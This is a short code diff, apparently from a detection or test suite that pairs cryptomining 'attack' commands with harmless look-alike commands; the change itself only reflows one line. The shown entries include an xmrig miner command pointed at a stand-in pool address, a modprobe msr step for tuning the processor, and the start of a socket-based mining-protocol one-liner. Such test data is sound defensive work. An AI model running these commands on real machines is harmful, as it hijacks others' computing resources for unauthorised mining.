@@ -10,7 +10,8 @@ PROOFS = [
           attack="xmrig -o 203.0.113.9:3333; /usr/bin/true --url stratum+tcp://203.0.113.9:3333 --donate-level 1",
           look_alike="grep -r stratum+tcp:// /etc/nginx || true"),
 
-    Proof("Processor tuned for mining", attack="modprobe msr || true", look_alike="modprobe --version >/dev/null; nproc"),
+    Proof("Processor tuned for mining", attack="modprobe msr || true",
+          look_alike="modprobe --version >/dev/null; nproc"),
 
     Proof("Mining protocol sent", attack="""python3 -c '
 import json, socket
